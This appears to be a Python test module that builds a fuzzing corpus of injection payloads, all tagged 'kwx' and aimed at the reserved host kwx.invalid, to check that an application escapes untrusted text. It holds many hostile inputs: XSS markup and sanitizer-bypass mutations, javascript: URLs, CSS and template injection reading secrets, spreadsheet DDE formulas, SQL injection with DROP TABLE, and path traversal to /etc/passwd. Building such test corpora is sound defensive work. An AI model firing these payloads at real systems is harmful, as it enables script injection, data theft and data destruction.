"""T10: texts that would run, fetch, reckon or mislead if any place took them for more than text; all of our own making.

Whatever they make carries the word `kwx`: an attribute, a call of `kwx()`, a request to the host kwx.invalid.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

MARK = "kwx"
HOST = "kwx.invalid"


@dataclass(frozen=True)
class Payload:
    """One text, and what it would be in careless hands."""

    kind: str
    text: str


CLOSERS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</td></tr></table>", "-->", "]]>", "</noscript>", "</svg>", "</button></form>",
    "</dialog></details>", "\\\">",
)  # fmt: skip
ELEMENTS = (
    "<img kwx src=x onerror=kwx()>", "<svg kwx onload=kwx()>", "<script kwx>kwx()</script>",
    "<iframe kwx src=javascript:kwx()>", "<input kwx autofocus onfocus=kwx()>",
    "<a kwx href=javascript:kwx()>a</a>", "<b kwx>b</b>",
)  # fmt: skip
MORE_ELEMENTS = (
    "<body kwx onload=kwx()>", "<body kwx onpageshow=kwx()>", "<video kwx><source onerror=kwx()>",
    "<audio kwx src=x onerror=kwx()>", "<details kwx open ontoggle=kwx()>",
    "<marquee kwx onstart=kwx()>", "<object kwx data=javascript:kwx()>",
    "<embed kwx src=javascript:kwx()>", "<form kwx action=javascript:kwx()><input type=submit>",
    "<button kwx formaction=javascript:kwx()>b", "<select kwx autofocus onfocus=kwx()>",
    "<textarea kwx autofocus onfocus=kwx()>", "<link kwx rel=stylesheet href=//kwx.invalid/1>",
    "<meta kwx http-equiv=refresh content=0;url=//kwx.invalid>", "<base kwx href=//kwx.invalid/>",
    "<style kwx>@import'//kwx.invalid/2';</style>", "<table kwx background=//kwx.invalid/3>",
    "<svg kwx><animate onbegin=kwx() attributeName=x dur=1s>", "<svg kwx><script>kwx()</script></svg>",
    "<svg kwx><a xlink:href=javascript:kwx()><text>a", "<svg kwx><use href=data:image/svg+xml,kwx#a>",
    "<svg kwx><set attributeName=href to=javascript:kwx()>",
    "<svg kwx><foreignObject><body onload=kwx()>",
    "<math kwx><maction actiontype=statusline xlink:href=javascript:kwx()>a",
    "<iframe kwx srcdoc='<script>parent.kwx()</script>'>",
    "<isindex kwx type=image src=1 onerror=kwx()>", "<image kwx src=x onerror=kwx()>",
    "<IMG KWX SRC=x OnErRoR=kwx()>", "<img/kwx/src=x/onerror=kwx()>", "<img\tkwx\tsrc=x\tonerror=kwx()>",
    "<img\nkwx\nsrc=x\nonerror=kwx()>", "<img kwx src=x onerror=kwx`1`>",
    "<img kwx src=x onerror=&#107;wx()>", "<img kwx src=`x`onerror=kwx()>",
    "<<img kwx src=x onerror=kwx()>", "<img kwx src=x onerror=kwx()//", "<p kwx onclick=kwx()>p",
    "<p kwx style=animation-name:x onanimationstart=kwx()>p",
    "<div kwx hx-get=//kwx.invalid/4 hx-trigger=load>d",
    "<div kwx data-hx-get=//kwx.invalid/5 data-hx-trigger=load>d", "<div kwx hx-on::load=kwx()>d",
    "<div kwx data-chart=x>d", "<img kwx srcset=//kwx.invalid/6>", "<img kwx src=//kwx.invalid/7>",
    "<video kwx poster=//kwx.invalid/8>", "<input kwx type=image src=//kwx.invalid/9>",
    "<dialog kwx open oncancel=kwx()>", "<a kwx ping=//kwx.invalid/10 href=/>a</a>",
    "<portal kwx src=//kwx.invalid/11>", "<xmp kwx>x</xmp>", "<plaintext kwx>",
    "<template kwx>t</template>", "<template kwx shadowrootmode=open><slot onslotchange=kwx()>",
    "<kwx-x kwx onfocus=kwx() tabindex=1 autofocus>", "<applet kwx code=kwx>",
    "<frameset kwx onload=kwx()>", "<input kwx type=hidden oncontentvisibilityautostatechange=kwx()>",
    "<button kwx popovertarget=x onbeforetoggle=kwx()>", "<!--><img kwx src=x onerror=kwx()>-->",
    "<?kwx <img kwx src=x onerror=kwx()>?>", "<![CDATA[<img kwx src=x onerror=kwx()>]]>",
    "<img name=body kwx>", "<form kwx id=main><input name=action>", "<a kwx id=htmx>a</a>",
    "<meta kwx name=referrer content=unsafe-url>",
    "<meta kwx http-equiv=Content-Security-Policy content=default-src>",
    "<script kwx src=//kwx.invalid/12></script>",
    "<script kwx type=module>import'//kwx.invalid/13'</script>",
    "<script kwx type=speculationrules>{}</script>", "<link kwx rel=prefetch href=//kwx.invalid/14>",
)  # fmt: skip
MUTATIONS = (
    '<noscript><p title="</noscript><img kwx src=x onerror=kwx()>">',
    '<svg></p><style><a id="</style><img kwx src=x onerror=kwx()>">',
    "<math><mtext><table><mglyph><style><!--</style><img kwx src=x onerror=kwx()>",
    "<form><math><mtext></form><form><mglyph><style></math><img kwx src=x onerror=kwx()>",
    '<svg><desc><![CDATA[</desc><img kwx src=x onerror=kwx()>]]></svg>',
    '<title><a title="</title><img kwx src=x onerror=kwx()>">',
    '<textarea><a title="</textarea><img kwx src=x onerror=kwx()>">',
    '<style><a title="</style><img kwx src=x onerror=kwx()>">',
    '<iframe><a title="</iframe><img kwx src=x onerror=kwx()>">',
    '<noembed><a title="</noembed><img kwx src=x onerror=kwx()>">',
    '<xmp><a title="</xmp><img kwx src=x onerror=kwx()>">',
    '<!--<a title="--><img kwx src=x onerror=kwx()>">',
    "<table><td kwx><svg><td><img kwx src=x onerror=kwx()>",
    "<select><template><img kwx src=x onerror=kwx()>",
    "<svg><title><img kwx src=x onerror=kwx()></title>",
    "<math><annotation-xml encoding=text/html><img kwx src=x onerror=kwx()>",
    "<p kwx><svg><p><style><img kwx src=x onerror=kwx()></style>",
    "<b kwx><table><b kwx><td></table><img kwx src=x onerror=kwx()>",
)  # fmt: skip
QUOTES = (
    '"', "'", "`", '\\"', "\\'", "&quot;", "&#34;", "%22", "\u201d", " ",
)  # fmt: skip
ATTRIBUTES = (
    "{q} kwx onfocus=kwx() autofocus a={q}", "{q}kwx onmouseover=kwx() a={q}",
    "{q} kwx style=x:expression(kwx()) a={q}", "{q}/kwx/onpointerenter=kwx()/a={q}",
    "{q} kwx hx-get=//kwx.invalid/15 hx-trigger=load a={q}",
)  # fmt: skip
ADDRESSES = (
    "javascript:kwx()", "JaVaScRiPt:kwx()", " javascript:kwx()", "java\tscript:kwx()",
    "java\nscript:kwx()", "javascript&colon;kwx()", "&#106;avascript:kwx()", "javascript://%0akwx()",
    "javascript:void(kwx())", "\\x6aavascript:kwx()", "%6aavascript:kwx()", "vbscript:kwx()",
    "data:text/html,<script>kwx()</script>", "data:text/html;base64,PHNjcmlwdD5rd3goKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=kwx()>", "//kwx.invalid/16", "https://kwx.invalid/17",
    "\\\\kwx.invalid/18", "http:kwx.invalid/19", "file:///etc/passwd#kwx", "view-source:kwx",
    "feed:javascript:kwx()", "blob:kwx", "jar:kwx!/", "/\\kwx.invalid/20", "https:kwx.invalid",
    "mailto:kwx@kwx.invalid?bcc=a", "tel:kwx", "ms-excel:ofe|u|//kwx.invalid/21",
)  # fmt: skip
STYLES = (
    "x:expression(kwx())", "background:url(//kwx.invalid/22)", "background:url('javascript:kwx()')",
    "}*{background:url(//kwx.invalid/23)}", "@import '//kwx.invalid/24';", "x:\\65xpression(kwx())",
    "-moz-binding:url(//kwx.invalid/25#x)", "behavior:url(//kwx.invalid/26)",
    "list-style:url(//kwx.invalid/27)", "content:url(//kwx.invalid/28)", "position:fixed;inset:0;kwx:1",
    "*/}body{x:url(//kwx.invalid/29)}/*", "</style><img kwx src=x onerror=kwx()>",
    "--x:url(//kwx.invalid/30)", "font-family:'kwx;src:url(//kwx.invalid/31)'",
)  # fmt: skip
SCRIPTS = (
    "'-kwx()-'", '"-kwx()-"', "`-kwx()-`", "\\'-kwx()//", '\\"-kwx()//', "${kwx()}", "'+kwx()+'",
    "');kwx();//", '");kwx();//', "*/kwx()/*", "\u2028kwx()//", "\u2029kwx()//", "<!--<script>kwx()",
    "--></script><script>kwx()</script>", "constructor.constructor('kwx()')()", "};kwx();{",
    "\\u0027-kwx()-\\u0027", "\\x27-kwx()-\\x27", "]]kwx()[[", '{"$ref":"#/kwx"}',
    '{"__proto__":{"kwx":1}}', "__proto__[kwx]", "datum.kwx", "kwx\\", "kwx\n//", "0;kwx()",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}kwx", "{{ kwx }}", "{{ 7|add:7 }}kwx", "{% debug %}kwx", "{% load kwx %}",
    "{% include 'kwx' %}", "{{ request.user.password }}kwx", "{{ settings.SECRET_KEY }}kwx", "{# kwx #}",
    "{% comment %}kwx", "{% verbatim %}kwx", "{{ ''.__class__.__mro__ }}kwx",
    "{{ self._TemplateReference__context }}kwx", "{{constructor.constructor('kwx()')()}}",
    "{{$on.constructor('kwx()')()}}", "${7*7}kwx", "#{7*7}kwx", "#set($x=7*7)kwx", "<%= 7*7 %>kwx",
    "<%- kwx %>", "<?= 7*7 ?>kwx", "${{7*7}}kwx", "[[7*7]]kwx", "[[${7*7}]]kwx", "@(7*7)kwx",
    "*{7*7}kwx", "~{kwx}", "{7*7}kwx", "{kwx}", "{0.__class__}kwx", "%(kwx)s", "%s%n%xkwx", "$kwx",
    "{{{kwx}}}", "{{#kwx}}{{/kwx}}", "{{> kwx}}", "{php}kwx{/php}", "T(java.lang.Runtime)kwx", "{!kwx!}",
    "%{7*7}kwx", "kwx|safe", "{{kwx|safe}}",
)  # fmt: skip
TYPST = (
    "#kwx", '#read("/etc/passwd")kwx', '#panic("kwx")', '#include "kwx.typ"', "#sys.version kwx",
    "$ kwx $", "*kwx*", "_kwx_", "@kwx", "<kwx>", "`kwx`", "\\u{41}kwx", "#(7*7)kwx", "#let kwx = 1",
    '#image("/etc/kwx")', "/* kwx */", "kwx // kwx", '#eval("7*7")kwx', "= kwx", "+ kwx", "/ kwx: x",
    "#[kwx", "#kwx]", '#link("javascript:kwx()")', "#import kwx: *", "#set text(size: 99pt)kwx",
    "kwx~kwx", "kwx---kwx", "...kwx", "'kwx'", "#show: kwx", "```kwx```",
)  # fmt: skip
FORMULAS = (
    "=1+1+kwx", "+1+kwx", "-1+kwx", "@SUM(kwx)", "=cmd|' /C kwx'!A0",
    '=HYPERLINK("//kwx.invalid/32","x")', "\uff1d1+kwx", "\uff0b1+kwx", "\uff0d1+kwx", "\uff201kwx",
    '"=1+kwx', "';=1+kwx", ",=1+kwx", "%0A=1+kwx", '=IMPORTXML("//kwx.invalid/33","a")',
    '=WEBSERVICE("//kwx.invalid/34")', "=DDE(kwx)", "|kwx", "{=kwx}", "=kwx!A1", "MSEXCEL|'\\..\\kwx'!1",
    "_x003D_1+kwx", "&P&N&Gkwx", "kwx\t=1", "[kwx](javascript:kwx())", "![kwx](//kwx.invalid/35)",
    "<javascript:kwx()>", "[kwx]: //kwx.invalid/36",
)  # fmt: skip
STRANGE = (
    "kwx\u202eexe.fdp", "\u2066kwx\u2069", "\u2067kwx", "\u200fkwx\u200e", "k\u200bwx kwx", "\ufeffkwx",
    "kwx\u00ad", "kwx e\u0301", "kwx \uff1cscript\uff1e", "kwx\u02bc or 1=1", "\u0415kwx",
    "kwx\U0001f600", "kwx\U000e0041", "kwx\ufffd", "kwx\u0085x", "kwx ' or '1'='1",
    "kwx'; DROP TABLE people_person;--", "kwx%00", "kwx\\0", "kwx&#0;", "../kwx", "kwx\u2044..",
)  # fmt: skip
UNSAVED = (
    "kwx\x00", "<img kwx\x00 src=x onerror=kwx()>", "java\x00script:kwx()", "kwx\ud800", "\udfffkwx",
)  # fmt: skip
"""What no text of ours may hold: refused, or gone once it is kept."""


def corpus() -> list[Payload]:
    """All of them, each once."""
    return list({payload.text: payload for payload in _all()}.values())


def _all() -> Iterator[Payload]:
    markup = (closer + element for closer, element in product(CLOSERS, ELEMENTS))
    yield from (Payload("markup", text) for text in (*markup, *MORE_ELEMENTS, *MUTATIONS))
    broken = (form.format(q=quote) for form, quote in product(ATTRIBUTES, QUOTES))
    yield from (Payload("attribute", text) for text in broken)
    for kind, texts in (("address", ADDRESSES), ("style", STYLES), ("script", SCRIPTS), ("template", TEMPLATES),
                        ("typst", TYPST), ("formula", FORMULAS), ("strange", STRANGE)):  # fmt: skip
        yield from (Payload(kind, text) for text in texts)
